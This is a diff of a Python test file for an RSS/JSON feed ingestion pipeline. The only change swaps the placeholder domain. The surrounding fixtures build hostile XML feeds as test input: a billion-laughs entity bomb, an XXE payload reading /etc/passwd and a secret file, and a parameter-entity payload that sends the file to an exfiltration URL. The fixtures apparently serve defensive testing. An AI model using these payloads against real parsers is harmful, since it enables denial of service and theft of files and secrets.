@@ -58,7 +58,7 @@ from pipeline.run import EXIT_NOTHING_READ, run_ingest
 pytestmark = pytest.mark.slow
 
 RSS_TYPE = "application/rss+xml; charset=utf-8"
-CONTACT = "https://example.org/newsbeam-contact"
+CONTACT = "https://site.example/newsbeam-contact"
 ENTRY_LIMIT = 5
 RETRIES = 3
 #: Every run: the in-process runner, no NER, no heartbeat.
@@ -938,7 +938,7 @@ def formats(tmp_path_factory: pytest.TempPathFactory) -> FormatsRun:
         {
             "version": "https://jsonfeed.org/version/1.1",
             "title": "A JSON feed",
-            "home_page_url": "http://example.org/",
+            "home_page_url": "http://site.example/",
             "items": [JSON_FEED_ITEM],
         }
     )
@@ -1341,7 +1341,7 @@ def billion_laughs() -> bytes:
     levels = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
     return (
         '<?xml version="1.0"?>\n<!DOCTYPE rss [' + "".join(levels) + "]>\n"
-        '<rss version="2.0"><channel><title>Laughs</title><link>http://example.org/</link><description>d</description>'
+        '<rss version="2.0"><channel><title>Laughs</title><link>http://site.example/</link><description>d</description>'
         "<item><title>Laughing &lol9;</title><link>http://news.example/attack/laughs</link>"
         "<description>The council laughed &lol9; at the plan for the new bridge over the river.</description>"
         "</item></channel></rss>"
@@ -1352,7 +1352,7 @@ def external_entity(secret: Path) -> bytes:
     return (
         '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
         f'<!ENTITY sec SYSTEM "{secret.as_uri()}">]>\n'
-        '<rss version="2.0"><channel><title>X &xxe;</title><link>http://example.org/</link><description>d</description>'
+        '<rss version="2.0"><channel><title>X &xxe;</title><link>http://site.example/</link><description>d</description>'
         "<item><title>Leak &xxe; &sec;</title><link>http://news.example/attack/xxe</link>"
         "<description>The file says &xxe; and the secret &sec; at the end of a report on the harbour.</description>"
         "</item></channel></rss>"
@@ -1365,7 +1365,7 @@ def parameter_entity(secret: Path, exfil: str, dtd: str) -> bytes:
         f'<!ENTITY % file SYSTEM "{secret.as_uri()}">'
         f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{exfil}?%file;'>\"> %eval; %exfil;"
         f'<!ENTITY % remote SYSTEM "{dtd}"> %remote;]>\n'
-        '<rss version="2.0"><channel><title>P</title><link>http://example.org/</link><description>d</description>'
+        '<rss version="2.0"><channel><title>P</title><link>http://site.example/</link><description>d</description>'
         "<item><title>Parameter entities &leak;</title><link>http://news.example/attack/parameter</link>"
         "<description>A report on parameter entities and the opening hours of the town library.</description>"
         "</item></channel></rss>"
